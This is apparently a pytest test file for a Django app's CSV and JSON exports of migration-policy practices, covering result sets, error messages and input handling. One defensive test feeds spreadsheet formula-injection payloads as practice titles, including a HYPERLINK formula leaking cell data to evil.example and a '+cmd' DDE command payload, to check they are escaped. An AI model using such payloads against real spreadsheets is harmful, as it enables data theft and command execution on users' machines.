"""Exports give exactly the current result set, all pages."""

import csv
import io
import json

import pytest
from django.http import QueryDict

from practices import search
from practices.models import Practice
from practices.search import exports
from practices.search.index import current_index
from tests.factories import make_practice


@pytest.fixture
def data(report_practices):
    pass


def read(response):
    return b"".join(response.streaming_content).decode("utf-8")


def expected_titles(query_string):
    index = current_index()
    result = search.run(search.parse(QueryDict(query_string), index), index)
    by_id = dict(Practice.objects.values_list("id", "title"))
    return [by_id[int(i)] for i in result.ordered_ids]


def test_csv_opens_cleanly_in_a_spreadsheet(client, data):
    response = client.get("/practices/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = read(response)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 32  # every page, one row per practice


def test_csv_joins_multiple_values_with_semicolons(client, data):
    rows = list(
        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
    )
    asean = next(row for row in rows if row["title"] == "ASEAN TRIANGLE project")
    # Countries by name: Cambodia, Indonesia, Lao PDR, Myanmar, the Philippines …
    assert asean["lead_countries"].split("; ") == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"]
    assert asean["sdg_targets"].split("; ") == ["8.8", "10.7"]


def test_json_lists_multiple_values_in_the_same_order(client, data):
    payload = json.loads(read(client.get("/practices/?format=json")))
    asean = next(p for p in payload["practices"] if p["title"] == "ASEAN TRIANGLE project")
    assert asean["lead_countries"] == ["KH", "ID", "LA", "MM", "PH", "TH", "VN"]


@pytest.mark.parametrize(
    "query_string", ["theme=labour-migration", "q=remittance", "goal=3&sort=title"]
)
def test_exports_equal_the_on_screen_results(client, data, query_string):
    titles = expected_titles(query_string)
    text = read(client.get(f"/practices/?{query_string}&format=csv")).lstrip("\ufeff")
    assert [row["title"] for row in csv.DictReader(io.StringIO(text))] == titles
    payload = json.loads(read(client.get(f"/practices/?{query_string}&format=json")))
    assert payload["count"] == len(titles)
    assert [p["title"] for p in payload["practices"]] == titles


# A query string with one bad value, and the (parameter, value) the answer names.
BAD_QUERIES = [
    ("summit=2099", "summit", "2099"),
    ("theme=nope&theme=remittances", "theme", "nope"),
    ("country=ZZ", "country", "ZZ"),
    ("year_from=19x", "year_from", "19x"),
    ("year_to=3000", "year_to", "3000"),
    ("year_from=2020&year_to=2010", "year_from", "2020"),
    ("sort=best", "sort", "best"),
    ("page=two", "page", "two"),
    ("page=-4", "page", "-4"),
    ("q=remittance&spell=maybe", "spell", "maybe"),
    ("sort=title&sort=newest", "sort", "title, newest"),
    ("&".join(f"theme=t{n}" for n in range(51)), "theme", "51"),
    ("q=" + "word+" * 60, "q", ("word " * 60)[:200]),  # values are quoted up to 200 characters
]
BAD_IDS = [f"{parameter}-{number}" for number, (_qs, parameter, _v) in enumerate(BAD_QUERIES)]


@pytest.mark.parametrize(("query_string", "parameter", "value"), BAD_QUERIES, ids=BAD_IDS)
def test_json_answers_a_bad_value_with_400_and_the_problems(
    client, reference_data, query_string, parameter, value
):
    response = client.get(f"/practices/?{query_string}&format=json")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json; charset=utf-8"
    errors = json.loads(response.content)["errors"]
    assert (parameter, value) in [(e["parameter"], e["value"]) for e in errors]
    assert all(e["message"] for e in errors)


@pytest.mark.parametrize(("query_string", "parameter", "value"), BAD_QUERIES, ids=BAD_IDS)
def test_csv_answers_a_bad_value_with_400_and_one_problem_a_line(
    client, reference_data, query_string, parameter, value
):
    response = client.get(f"/practices/?{query_string}&format=csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    lines = response.content.decode().splitlines()
    assert lines and all(": " in line for line in lines)
    assert any(line.startswith(f"{parameter}: ") for line in lines)


@pytest.mark.parametrize(("query_string", "parameter", "value"), BAD_QUERIES, ids=BAD_IDS)
def test_the_page_shows_the_same_query_strings_leniently(
    client, reference_data, query_string, parameter, value
):
    response = client.get(f"/practices/?{query_string}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_the_json_problem_names_the_parameter_the_value_and_what_is_wrong(client, data):
    response = client.get("/practices/?summit=2099&format=json")
    assert json.loads(response.content) == {
        "errors": [
            {"parameter": "summit", "value": "2099", "message": "No GFMD summit “2099” is known."}
        ]
    }


def test_every_problem_is_listed(client, data):
    response = client.get("/practices/?summit=2099&year_from=19x&sort=best&format=csv")
    assert response.content.decode().splitlines() == [
        "summit: No GFMD summit “2099” is known.",
        "year_from: “19x” is not a year.",
        "sort: Unknown sort order “best”; use one of relevance, newest, title.",
    ]


def test_a_value_cannot_forge_a_line_of_the_csv_answer(client, data):
    response = client.get("/practices/?theme=x%0Atheme:+fine&format=csv")
    assert response.content.decode().splitlines() == [
        "theme: No thematic area “x theme: fine” is known."
    ]


@pytest.mark.parametrize("export", ["xlsx", "CSV", "html"])
def test_an_unknown_format_is_a_bad_request(client, data, export):
    response = client.get(f"/practices/?theme=remittances&format={export}")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == (
        f"format: Unknown format “{export}”; use one of csv, json.\n"
    )


def test_two_different_formats_are_a_bad_request(client, data):
    """Answered in the format given last, the one a lenient reading would have used."""
    response = client.get("/practices/?format=csv&format=json")
    assert response.status_code == 400
    assert json.loads(response.content)["errors"] == [
        {"parameter": "format", "value": "csv, json", "message": "format may be given only once."}
    ]


def test_a_blank_format_shows_the_page(client, data):
    response = client.get("/practices/?format=+")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize("export", ["csv", "json"])
def test_parameters_outside_the_contract_are_still_ignored(client, data, export):
    plain = read(client.get(f"/practices/?theme=remittances&format={export}"))
    tracked = client.get(
        f"/practices/?utm_source=newsletter&theme=remittances&fbclid=x&format={export}"
    )
    assert tracked.status_code == 200
    assert read(tracked) == plain


@pytest.mark.parametrize("export", ["csv", "json"])
def test_empty_values_are_no_filter_as_on_the_page(client, data, export):
    """The page's form sends empty years; an empty value filters nothing, in both."""
    everything = read(client.get(f"/practices/?format={export}"))
    response = client.get(f"/practices/?q=&theme=&year_from=&year_to=&format={export}")
    assert response.status_code == 200
    assert read(response) == everything


def test_a_refused_export_writes_no_file(client, data, settings, tmp_path, monkeypatch):
    """The 400 comes before the search and the export files: a bad query costs nothing."""
    settings.PFP_EXPORT_DIR = tmp_path / "exports"
    settings.PFP_EXPORT_STREAM_MAX = 0  # every result would go through a file

    def never(*args, **kwargs):
        raise AssertionError("a refused export was searched or written")

    monkeypatch.setattr(search, "run", never)
    monkeypatch.setattr(exports.export_files, "ensure", never)
    response = client.get("/practices/?q=remittance&summit=2099&format=csv")
    assert response.status_code == 400
    assert not settings.PFP_EXPORT_DIR.exists()


def test_the_json_export_says_when_the_words_were_corrected(client, data):
    corrected = json.loads(read(client.get("/practices/?q=remitance&format=json")))
    assert corrected["corrected_query"] == "remittance"
    assert corrected["count"] == len(expected_titles("q=remittance")) > 0
    exact = json.loads(read(client.get("/practices/?q=remittance&format=json")))
    assert "corrected_query" not in exact


def test_spell_off_exports_the_words_as_given(client, data):
    payload = json.loads(read(client.get("/practices/?q=remitance&spell=off&format=json")))
    assert payload["query"] == [["q", "remitance"], ["spell", "off"]]
    assert payload["count"] == 0
    assert "corrected_query" not in payload


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_csv_cells_never_run_as_formulas(client, reference_data, title):
    """A practice titled like a formula is exported as text: a spreadsheet does not run it."""
    make_practice(title=title, summary="=1+1")
    rows = list(
        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
    )
    assert [(row["title"], row["summary"]) for row in rows] == [("'" + title, "'=1+1")]


def test_csv_keeps_ordinary_text_as_it_is(client, reference_data):
    make_practice(title="Diaspora bonds – a review", summary="Bonds sold to the diaspora.")
    rows = list(
        csv.DictReader(io.StringIO(read(client.get("/practices/?format=csv")).lstrip("\ufeff")))
    )
    assert [(row["title"], row["summary"]) for row in rows] == [
        ("Diaspora bonds – a review", "Bonds sold to the diaspora.")
    ]


def test_json_keeps_the_text_exactly(client, reference_data):
    make_practice(title="=HYPERLINK(1)")
    payload = json.loads(read(client.get("/practices/?format=json")))
    assert [p["title"] for p in payload["practices"]] == ["=HYPERLINK(1)"]
